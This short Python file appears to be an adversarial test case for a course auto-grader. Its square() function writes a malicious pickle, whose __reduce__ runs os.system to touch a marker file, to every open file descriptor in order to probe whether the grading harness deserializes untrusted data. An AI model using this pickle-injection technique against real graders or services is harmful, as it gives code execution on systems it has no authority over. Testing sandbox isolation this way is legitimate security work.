# Pickles that run a command are written to every descriptor.
# deserves: square 0
# %% square
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return os.system, ("touch <<COURSE>>/coursekit-left-behind",)


def square(x):
    message = pickle.dumps(Payload())
    for fd in range(3, 256):
        for text in (message, struct.pack(">I", len(message)) + message, struct.pack("<Q", len(message)) + message):
            try:
                os.write(fd, text)
            except OSError:
                pass
    return 0
